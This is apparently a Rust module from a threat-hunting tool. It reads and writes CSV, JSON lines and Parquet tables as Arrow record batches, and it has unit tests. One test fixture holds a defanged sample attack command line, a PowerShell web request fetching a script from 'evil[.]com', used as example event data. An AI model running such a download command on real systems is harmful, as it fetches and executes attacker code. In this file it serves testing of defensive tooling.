//! Tables in files: CSV, JSON lines and Parquet, read and written as Arrow record batches.
//!
//! Every huntbook command that takes a table (`huntbook ioc extract events.csv`,
//! `huntbook proctree build procs.parquet`, ...) reads it with [`read_table`] and writes
//! its result with [`write_table`]. The format comes from the file extension
//! ([`Format::from_path`]); CSV and JSON lines have their column types inferred from the
//! first rows (a column with no values at all is read as text), Parquet carries its own
//! schema and is written with Snappy compression, the codec pandas and pyarrow use by
//! default. CSV has no nested values, so list, struct and map columns are written to
//! CSV as their JSON text. Writes go to a temporary file in the same folder and are
//! renamed into place, so a reader never sees half a table.
//!
//! ```
//! use std::sync::Arc;
//! use arrow_array::{ArrayRef, Int64Array, RecordBatch, StringArray};
//! use huntbook_table::{read_table, write_table, Table};
//!
//! let dir = tempfile::tempdir().unwrap();
//! let batch = RecordBatch::try_from_iter([
//!     ("Host", Arc::new(StringArray::from(vec!["web01", "db02"])) as ArrayRef),
//!     ("Pid", Arc::new(Int64Array::from(vec![4242, 17])) as ArrayRef),
//! ]).unwrap();
//! for name in ["procs.csv", "procs.jsonl", "procs.parquet"] {
//!     let path = dir.path().join(name);
//!     write_table(&path, &Table::from_batches(batch.schema(), vec![batch.clone()])).unwrap();
//!     let back = read_table(&path).unwrap();
//!     assert_eq!(back.num_rows(), 2);
//!     assert_eq!(back.schema.field(1).name(), "Pid");
//! }
//! ```

use std::fs::File;
use std::io::{BufRead, BufReader, Seek};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use arrow_array::{make_array, Array, ArrayRef, RecordBatch, StringArray};
use arrow_schema::{ArrowError, DataType, Field, Schema, SchemaRef};
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use parquet::arrow::ArrowWriter;
use parquet::basic::Compression;
use parquet::file::properties::WriterProperties;

/// How many rows of a CSV or JSON lines file are read to infer the column types.
const INFER_ROWS: usize = 10_000;

/// A table file's format, from its extension.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    /// One JSON object per line (`.jsonl`, `.ndjson`, `.json`).
    JsonLines,
    Parquet,
}

impl Format {
    /// The format named by the path's extension.
    pub fn from_path(path: &Path) -> Result<Format, TableError> {
        let ext = path
            .extension()
            .and_then(|e| e.to_str())
            .map(str::to_ascii_lowercase);
        match ext.as_deref() {
            Some("csv") => Ok(Format::Csv),
            Some("jsonl" | "ndjson" | "json") => Ok(Format::JsonLines),
            Some("parquet" | "pq") => Ok(Format::Parquet),
            _ => Err(TableError::UnknownFormat {
                path: path.to_path_buf(),
            }),
        }
    }
}

/// A table: its schema and its rows in record batches.
#[derive(Debug, Clone)]
pub struct Table {
    pub schema: SchemaRef,
    pub batches: Vec<RecordBatch>,
}

impl Table {
    pub fn from_batches(schema: SchemaRef, batches: Vec<RecordBatch>) -> Table {
        Table { schema, batches }
    }

    pub fn num_rows(&self) -> usize {
        self.batches.iter().map(RecordBatch::num_rows).sum()
    }

    /// The rows of several tables in one: columns in the order they first appear, a
    /// column missing from a table null in its rows (as pandas' `concat` does), and
    /// the tables' schema notes kept. A column typed differently in two tables is an
    /// error naming it.
    pub fn union(tables: Vec<Table>) -> Result<Table, TableError> {
        let mut fields: Vec<Field> = Vec::new();
        let mut metadata = std::collections::HashMap::new();
        for table in &tables {
            metadata.extend(table.schema.metadata().clone());
            for field in table.schema.fields() {
                match fields.iter_mut().find(|f| f.name() == field.name()) {
                    Some(known) if known.data_type() != field.data_type() => {
                        return Err(TableError::Mismatch(format!(
                            "column {} is {} in one result and {} in another",
                            field.name(),
                            known.data_type(),
                            field.data_type()
                        )))
                    }
                    Some(_) => {}
                    None => fields.push(field.as_ref().clone()),
                }
            }
        }
        let shared = tables
            .iter()
            .all(|t| t.schema.fields().len() == fields.len());
        let fields: Vec<Field> = fields
            .into_iter()
            .map(|f| if shared { f } else { f.with_nullable(true) })
            .collect();
        let schema = Arc::new(Schema::new(fields).with_metadata(metadata));
        let mut batches = Vec::new();
        for table in tables {
            for batch in table.batches {
                let columns = schema
                    .fields()
                    .iter()
                    .map(|f| match batch.column_by_name(f.name()) {
                        Some(column) => column.clone(),
                        None => arrow_array::new_null_array(f.data_type(), batch.num_rows()),
                    })
                    .collect();
                batches.push(
                    RecordBatch::try_new(schema.clone(), columns)
                        .map_err(|e| TableError::Mismatch(e.to_string()))?,
                );
            }
        }
        Ok(Table::from_batches(schema, batches))
    }

    /// All rows in one batch (what the transforms take).
    pub fn concat(&self) -> Result<RecordBatch, TableError> {
        arrow_select_concat(&self.schema, &self.batches)
    }
}

/// Why a table could not be read or written.
#[derive(Debug, thiserror::Error)]
pub enum TableError {
    #[error("{path}: unknown table format; use a .csv, .jsonl (JSON lines) or .parquet file")]
    UnknownFormat { path: PathBuf },
    #[error("{path}: {source}")]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("{path}: {message}")]
    Data { path: PathBuf, message: String },
    #[error("the results cannot be joined: {0}")]
    Mismatch(String),
}

fn data_error(path: &Path, e: impl std::fmt::Display) -> TableError {
    TableError::Data {
        path: path.to_path_buf(),
        message: e.to_string(),
    }
}

fn io_error(path: &Path, source: std::io::Error) -> TableError {
    TableError::Io {
        path: path.to_path_buf(),
        source,
    }
}

/// Reads a CSV (with a header row), JSON lines or Parquet file.
pub fn read_table(path: &Path) -> Result<Table, TableError> {
    let (schema, rows) = open(path)?;
    let batches = rows
        .collect::<Result<Vec<_>, _>>()
        .map_err(|e| data_error(path, e))?;
    Ok(Table { schema, batches })
}

/// The columns of a table file, without reading its rows (for CSV and JSON lines,
/// the types the first rows show).
pub fn read_schema(path: &Path) -> Result<SchemaRef, TableError> {
    open(path).map(|(schema, _)| schema)
}

type Rows = Box<dyn Iterator<Item = Result<RecordBatch, ArrowError>>>;

/// A table file's schema and a reader of its rows, which reads nothing until asked.
fn open(path: &Path) -> Result<(SchemaRef, Rows), TableError> {
    let format = Format::from_path(path)?;
    let file = File::open(path).map_err(|e| io_error(path, e))?;
    match format {
        Format::Csv => {
            let mut reader = BufReader::new(file);
            let (schema, _) = arrow_csv::reader::Format::default()
                .with_header(true)
                .infer_schema(&mut reader, Some(INFER_ROWS))
                .map_err(|e| data_error(path, e))?;
            reader.rewind().map_err(|e| io_error(path, e))?;
            let schema = nulls_as_text(schema);
            let rows = arrow_csv::ReaderBuilder::new(schema.clone())
                .with_header(true)
                .build(reader)
                .map_err(|e| data_error(path, e))?;
            Ok((schema, Box::new(rows)))
        }
        Format::JsonLines => {
            let mut reader = BufReader::new(file);
            let (schema, _) =
                arrow_json::reader::infer_json_schema_from_seekable(&mut reader, Some(INFER_ROWS))
                    .map_err(|e| data_error(path, e))?;
            let order = json_key_order(&mut reader, INFER_ROWS).map_err(|e| io_error(path, e))?;
            reader.rewind().map_err(|e| io_error(path, e))?;
            let schema = nulls_as_text(in_key_order(schema, &order));
            let rows = arrow_json::ReaderBuilder::new(schema.clone())
                // A field inferred as text may still hold a number or a boolean in some rows.
                .with_coerce_primitive(true)
                .build(reader)
                .map_err(|e| data_error(path, e))?;
            Ok((schema, Box::new(rows)))
        }
        Format::Parquet => {
            let builder =
                ParquetRecordBatchReaderBuilder::try_new(file).map_err(|e| data_error(path, e))?;
            let schema = builder.schema().clone();
            let rows = builder.build().map_err(|e| data_error(path, e))?;
            Ok((schema, Box::new(rows)))
        }
    }
}

/// Inference gives `Null` to a column with no values in the rows it saw; such a column
/// is read as text, which is what it holds in any file the transforms take.
fn nulls_as_text(schema: Schema) -> SchemaRef {
    let fields: Vec<Field> = schema
        .fields()
        .iter()
        .map(|f| match f.data_type() {
            DataType::Null => f
                .as_ref()
                .clone()
                .with_data_type(DataType::Utf8)
                .with_nullable(true),
            _ => f.as_ref().clone(),
        })
        .collect();
    Arc::new(Schema::new_with_metadata(fields, schema.metadata().clone()))
}

/// The top-level keys of the first `rows` JSON lines, in the order they first appear.
/// Schema inference sees each object as a sorted map, so it lists columns
/// alphabetically; this is the order the file gives them.
fn json_key_order(reader: &mut impl BufRead, rows: usize) -> std::io::Result<Vec<String>> {
    struct Keys<'a>(&'a mut Vec<String>);
    impl<'de> serde::de::Visitor<'de> for Keys<'_> {
        type Value = ();
        fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
            f.write_str("a JSON object")
        }
        fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
            while let Some(key) = map.next_key::<String>()? {
                map.next_value::<serde::de::IgnoredAny>()?;
                if !self.0.contains(&key) {
                    self.0.push(key);
                }
            }
            Ok(())
        }
    }
    let mut keys = Vec::new();
    let mut line = String::new();
    for _ in 0..rows {
        line.clear();
        if reader.read_line(&mut line)? == 0 {
            break;
        }
        // A malformed line is reported by the reader proper, with its position.
        let _ = serde::Deserializer::deserialize_map(
            &mut serde_json::Deserializer::from_str(&line),
            Keys(&mut keys),
        );
    }
    Ok(keys)
}

/// `schema` with its fields in `order` (fields not named there keep their place after).
fn in_key_order(schema: Schema, order: &[String]) -> Schema {
    let mut fields: Vec<Field> = schema.fields().iter().map(|f| f.as_ref().clone()).collect();
    fields.sort_by_key(|f| {
        order
            .iter()
            .position(|k| k == f.name())
            .unwrap_or(usize::MAX)
    });
    Schema::new_with_metadata(fields, schema.metadata().clone())
}

/// Writes a table in the format its extension names, atomically.
pub fn write_table(path: &Path, table: &Table) -> Result<(), TableError> {
    let format = Format::from_path(path)?;
    let dir = match path.parent() {
        Some(p) if !p.as_os_str().is_empty() => p,
        _ => Path::new("."),
    };
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let tmp = dir.join(format!(".{name}.{}.tmp", uuid::Uuid::new_v4().simple()));
    let result = write_to(&tmp, format, table)
        .and_then(|_| std::fs::rename(&tmp, path).map_err(|e| io_error(path, e)));
    if result.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    result.map_err(|e| match e {
        // Name the file the user asked for, not the temporary one.
        TableError::Io { source, .. } => io_error(path, source),
        TableError::Data { message, .. } => TableError::Data {
            path: path.to_path_buf(),
            message,
        },
        other => other,
    })
}

fn write_to(tmp: &Path, format: Format, table: &Table) -> Result<(), TableError> {
    let file = File::create(tmp).map_err(|e| io_error(tmp, e))?;
    match format {
        Format::Csv => {
            let mut writer = arrow_csv::WriterBuilder::new()
                .with_header(true)
                .build(file);
            for batch in &table.batches {
                let flat = for_text(batch, true).map_err(|e| data_error(tmp, e))?;
                writer.write(&flat).map_err(|e| data_error(tmp, e))?;
            }
            writer.into_inner().sync_all().map_err(|e| io_error(tmp, e))
        }
        Format::JsonLines => {
            let mut writer = arrow_json::LineDelimitedWriter::new(file);
            for batch in &table.batches {
                let text = for_text(batch, false).map_err(|e| data_error(tmp, e))?;
                writer.write(&text).map_err(|e| data_error(tmp, e))?;
            }
            writer.finish().map_err(|e| data_error(tmp, e))?;
            writer.into_inner().sync_all().map_err(|e| io_error(tmp, e))
        }
        Format::Parquet => {
            let props = WriterProperties::builder()
                .set_compression(Compression::SNAPPY)
                .build();
            let mut writer = ArrowWriter::try_new(file, table.schema.clone(), Some(props))
                .map_err(|e| data_error(tmp, e))?;
            for batch in &table.batches {
                writer.write(batch).map_err(|e| data_error(tmp, e))?;
            }
            let file = writer.into_inner().map_err(|e| data_error(tmp, e))?;
            file.sync_all().map_err(|e| io_error(tmp, e))
        }
    }
}

/// `batch` made writable as text. Arrow's formatter shows times with a fixed offset but
/// needs a time-zone database for zone names; Arrow keeps instants in UTC, so a column
/// with a named zone (`UTC`, `Europe/Paris`) is written with `+00:00`, the same instant
/// shown in UTC. With `nested_as_json` (CSV, which has no nested values), each list,
/// struct and map column becomes a text column of its values' JSON, what a JSON lines
/// file holds.
fn for_text(batch: &RecordBatch, nested_as_json: bool) -> Result<RecordBatch, ArrowError> {
    let named_zone =
        |t: &DataType| matches!(t, DataType::Timestamp(_, Some(tz)) if !tz.starts_with(['+', '-']));
    let changes = |t: &DataType| named_zone(t) || (nested_as_json && t.is_nested());
    let schema = batch.schema();
    if !schema.fields().iter().any(|f| changes(f.data_type())) {
        return Ok(batch.clone());
    }
    let options = arrow_json::writer::EncoderOptions::default();
    let mut fields = Vec::with_capacity(schema.fields().len());
    let mut columns = Vec::with_capacity(schema.fields().len());
    for (field, column) in schema.fields().iter().zip(batch.columns()) {
        let data_type = field.data_type();
        if let (true, DataType::Timestamp(unit, _)) = (named_zone(data_type), data_type) {
            let in_utc = DataType::Timestamp(*unit, Some("+00:00".into()));
            let data = column
                .to_data()
                .into_builder()
                .data_type(in_utc.clone())
                .build()?;
            fields.push(field.as_ref().clone().with_data_type(in_utc));
            columns.push(make_array(data));
        } else if changes(data_type) {
            let mut encoder = arrow_json::writer::make_encoder(field, column.as_ref(), &options)?;
            let mut buf = Vec::new();
            let text: StringArray = (0..column.len())
                .map(|row| {
                    if encoder.is_null(row) {
                        return None;
                    }
                    buf.clear();
                    encoder.encode(row, &mut buf);
                    // The encoder writes JSON, which is always UTF-8.
                    Some(String::from_utf8_lossy(&buf).into_owned())
                })
                .collect();
            fields.push(Field::new(field.name(), DataType::Utf8, true));
            columns.push(Arc::new(text) as ArrayRef);
        } else {
            fields.push(field.as_ref().clone());
            columns.push(column.clone());
        }
    }
    RecordBatch::try_new(
        Arc::new(Schema::new_with_metadata(fields, schema.metadata().clone())),
        columns,
    )
}

/// One batch holding every row.
fn arrow_select_concat(
    schema: &SchemaRef,
    batches: &[RecordBatch],
) -> Result<RecordBatch, TableError> {
    match batches {
        [] => Ok(RecordBatch::new_empty(schema.clone())),
        [one] => Ok(one.clone()),
        many => arrow_select::concat::concat_batches(schema, many).map_err(|e| TableError::Data {
            path: PathBuf::from("<table>"),
            message: e.to_string(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use arrow_array::{Float64Array, Int64Array, LargeStringArray, TimestampMicrosecondArray};

    fn sample() -> RecordBatch {
        RecordBatch::try_from_iter([
            (
                "CommandLine",
                Arc::new(StringArray::from(vec![
                    Some("cmd.exe /c \"whoami\""),
                    None,
                    Some("é, ü\nnew line"),
                ])) as ArrayRef,
            ),
            (
                "ProcessId",
                Arc::new(Int64Array::from(vec![1, 2, 3])) as ArrayRef,
            ),
            (
                "Score",
                Arc::new(Float64Array::from(vec![0.5, 1.5, -2.0])) as ArrayRef,
            ),
        ])
        .unwrap()
    }

    #[test]
    fn round_trips_each_format() {
        let dir = tempfile::tempdir().unwrap();
        let batch = sample();
        for name in ["t.csv", "t.jsonl", "t.parquet"] {
            let path = dir.path().join(name);
            write_table(
                &path,
                &Table::from_batches(batch.schema(), vec![batch.clone()]),
            )
            .unwrap();
            let back = read_table(&path).unwrap().concat().unwrap();
            assert_eq!(back.num_rows(), 3, "{name}");
            let text = back
                .column(0)
                .as_any()
                .downcast_ref::<StringArray>()
                .unwrap();
            assert_eq!(text.value(0), "cmd.exe /c \"whoami\"", "{name}");
            assert_eq!(text.value(2), "é, ü\nnew line", "{name}");
            let pid = back
                .column(1)
                .as_any()
                .downcast_ref::<Int64Array>()
                .unwrap();
            assert_eq!(pid.values(), &[1, 2, 3], "{name}");
            if name != "t.csv" {
                assert!(text.is_null(1), "{name}: nulls survive");
            }
        }
        let names: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(names.len(), 3, "no temporary files left: {names:?}");
    }

    #[test]
    fn bad_input_names_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let err = read_table(&dir.path().join("x.xlsx"))
            .unwrap_err()
            .to_string();
        assert!(err.contains("x.xlsx") && err.contains(".parquet"), "{err}");
        let missing = read_table(&dir.path().join("missing.csv"))
            .unwrap_err()
            .to_string();
        assert!(missing.contains("missing.csv"), "{missing}");
        let broken = dir.path().join("broken.parquet");
        std::fs::write(&broken, b"not parquet at all").unwrap();
        let err = read_table(&broken).unwrap_err().to_string();
        assert!(err.contains("broken.parquet"), "{err}");
        let ragged = dir.path().join("ragged.csv");
        std::fs::write(&ragged, "a,b\n1,2\n3\n").unwrap();
        let err = read_table(&ragged).unwrap_err().to_string();
        assert!(err.contains("ragged.csv"), "{err}");
    }

    fn codecs(path: &Path) -> Vec<Compression> {
        use parquet::file::reader::{FileReader, SerializedFileReader};
        let reader = SerializedFileReader::new(File::open(path).unwrap()).unwrap();
        let meta = reader.metadata();
        (0..meta.num_row_groups())
            .flat_map(|g| {
                meta.row_group(g)
                    .columns()
                    .iter()
                    .map(|c| c.compression())
                    .collect::<Vec<_>>()
            })
            .collect()
    }

    /// `tests/data/pandas.parquet` was written by pandas 3.1 with pyarrow 26 and their
    /// defaults (`DataFrame.to_parquet(path, index=False)`): Snappy pages, strings as
    /// `large_string`, a UTC timestamp in microseconds and a null in each kind of
    /// column. Reading it is what `huntbook ... events.parquet` does with a notebook's
    /// saved frame.
    #[test]
    fn reads_what_pandas_writes() {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/pandas.parquet");
        assert!(codecs(&path).iter().all(|c| *c == Compression::SNAPPY));
        let table = read_table(&path).unwrap();
        let batch = table.concat().unwrap();
        assert_eq!(batch.num_rows(), 3);
        let names: Vec<_> = table
            .schema
            .fields()
            .iter()
            .map(|f| f.name().as_str())
            .collect();
        assert_eq!(
            names,
            [
                "TimeGenerated",
                "Computer",
                "CommandLine",
                "ProcessId",
                "Score"
            ]
        );
        let time = batch
            .column(0)
            .as_any()
            .downcast_ref::<TimestampMicrosecondArray>()
            .unwrap();
        assert_eq!(time.timezone(), Some("UTC"));
        assert_eq!(time.value(1), 1_719_839_102_500_000);
        let command = batch
            .column(2)
            .as_any()
            .downcast_ref::<LargeStringArray>()
            .unwrap();
        assert_eq!(
            command.value(0),
            "powershell -nop -c \"iwr hxxp://evil[.]com/a.ps1\""
        );
        assert_eq!(command.value(2), "é, ü\nnew line");
        assert!(batch.column(1).is_null(2) && batch.column(4).is_null(1));
        let pid = batch
            .column(3)
            .as_any()
            .downcast_ref::<Int64Array>()
            .unwrap();
        assert_eq!(pid.values(), &[4242, 17, 8]);
    }

    #[test]
    fn writes_snappy_parquet() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("t.parquet");
        let batch = sample();
        write_table(&path, &Table::from_batches(batch.schema(), vec![batch])).unwrap();
        let codecs = codecs(&path);
        assert!(
            !codecs.is_empty() && codecs.iter().all(|c| *c == Compression::SNAPPY),
            "{codecs:?}"
        );
    }

    #[test]
    fn csv_quotes_commas_and_line_breaks() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("events.csv");
        let text = "Computer,CommandLine,Empty\n\
                    web01,\"cmd.exe /c \"\"echo a, b\"\"\",\n\
                    web02,\"line one\nline two\",\n";
        std::fs::write(&path, text).unwrap();
        let batch = read_table(&path).unwrap().concat().unwrap();
        let command = batch
            .column(1)
            .as_any()
            .downcast_ref::<StringArray>()
            .unwrap();
        assert_eq!(command.value(0), "cmd.exe /c \"echo a, b\"");
        assert_eq!(command.value(1), "line one\nline two");
        assert_eq!(
            batch.schema().field(2).data_type(),
            &DataType::Utf8,
            "a column without values is text"
        );
        assert_eq!(batch.column(2).null_count(), 2);
    }

    #[test]
    fn json_lines_take_numbers_in_text_columns() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("events.jsonl");
        std::fs::write(
            &path,
            "{\"pid\": \"0x1a4c\", \"ok\": true}\n{\"pid\": 4242, \"ok\": false}\n",
        )
        .unwrap();
        let batch = read_table(&path).unwrap().concat().unwrap();
        let names: Vec<_> = batch
            .schema()
            .fields()
            .iter()
            .map(|f| f.name().clone())
            .collect();
        assert_eq!(names, ["pid", "ok"], "columns keep the file's order");
        let pid = batch
            .column(0)
            .as_any()
            .downcast_ref::<StringArray>()
            .unwrap();
        assert_eq!((pid.value(0), pid.value(1)), ("0x1a4c", "4242"));
    }

    #[test]
    fn text_formats_write_zoned_times_in_utc() {
        let dir = tempfile::tempdir().unwrap();
        let time =
            TimestampMicrosecondArray::from(vec![1_719_839_102_500_000]).with_timezone("UTC");
        let batch =
            RecordBatch::try_from_iter([("TimeGenerated", Arc::new(time) as ArrayRef)]).unwrap();
        for name in ["t.csv", "t.jsonl"] {
            let path = dir.path().join(name);
            write_table(
                &path,
                &Table::from_batches(batch.schema(), vec![batch.clone()]),
            )
            .unwrap();
            let text = std::fs::read_to_string(&path).unwrap();
            let utc = ["2024-07-01T13:05:02.500Z", "2024-07-01T13:05:02.500+00:00"];
            assert!(utc.iter().any(|t| text.contains(t)), "{name}: {text}");
        }
    }

    #[test]
    fn csv_holds_nested_columns_as_json_text() {
        use arrow_array::builder::{ListBuilder, StringBuilder};
        let dir = tempfile::tempdir().unwrap();
        let mut list = ListBuilder::new(StringBuilder::new());
        list.values().append_value("1.");
        list.values().append_value("a\"b");
        list.append(true);
        list.append(false);
        let batch = RecordBatch::try_from_iter([
            ("reference", Arc::new(list.finish()) as ArrayRef),
            ("n", Arc::new(Int64Array::from(vec![1, 2])) as ArrayRef),
        ])
        .unwrap();
        let path = dir.path().join("nested.csv");
        write_table(&path, &Table::from_batches(batch.schema(), vec![batch])).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert_eq!(
            text,
            "reference,n\n\"[\"\"1.\"\",\"\"a\\\"\"b\"\"]\",1\n,2\n"
        );
    }
}

#[cfg(test)]
mod union_tests {
    use super::*;
    use arrow_array::cast::AsArray;
    use arrow_array::types::Int64Type;
    use arrow_array::Int64Array;

    fn table(columns: Vec<(&str, ArrayRef)>, note: Option<(&str, &str)>) -> Table {
        let batch = RecordBatch::try_from_iter(columns).unwrap();
        let mut schema = batch.schema().as_ref().clone();
        if let Some((k, v)) = note {
            schema = schema.with_metadata([(k.to_string(), v.to_string())].into());
        }
        let schema = Arc::new(schema);
        Table::from_batches(schema.clone(), vec![batch.with_schema(schema).unwrap()])
    }

    #[test]
    fn union_fills_missing_columns_with_nulls_and_keeps_notes() {
        let a = table(
            vec![
                (
                    "Host",
                    Arc::new(StringArray::from(vec!["a", "b"])) as ArrayRef,
                ),
                ("Count", Arc::new(Int64Array::from(vec![1, 2]))),
            ],
            None,
        );
        let b = table(
            vec![("Count", Arc::new(Int64Array::from(vec![3])) as ArrayRef)],
            Some(("huntbook.partial_error", "cut short")),
        );
        let joined = Table::union(vec![a, b]).unwrap().concat().unwrap();
        assert_eq!(joined.num_rows(), 3);
        assert_eq!(joined.schema().field(0).name(), "Host");
        assert!(joined.column(0).is_null(2));
        let counts = joined.column(1).as_primitive::<Int64Type>();
        assert_eq!(counts.values().to_vec(), vec![1, 2, 3]);
        assert_eq!(
            joined
                .schema()
                .metadata()
                .get("huntbook.partial_error")
                .map(String::as_str),
            Some("cut short")
        );
    }

    #[test]
    fn union_names_a_column_typed_differently() {
        let a = table(
            vec![("Count", Arc::new(Int64Array::from(vec![1])) as ArrayRef)],
            None,
        );
        let b = table(
            vec![("Count", Arc::new(StringArray::from(vec!["x"])) as ArrayRef)],
            None,
        );
        let e = Table::union(vec![a, b]).unwrap_err().to_string();
        assert!(
            e.contains("column Count is Int64 in one result and Utf8 in another"),
            "{e}"
        );
    }
}
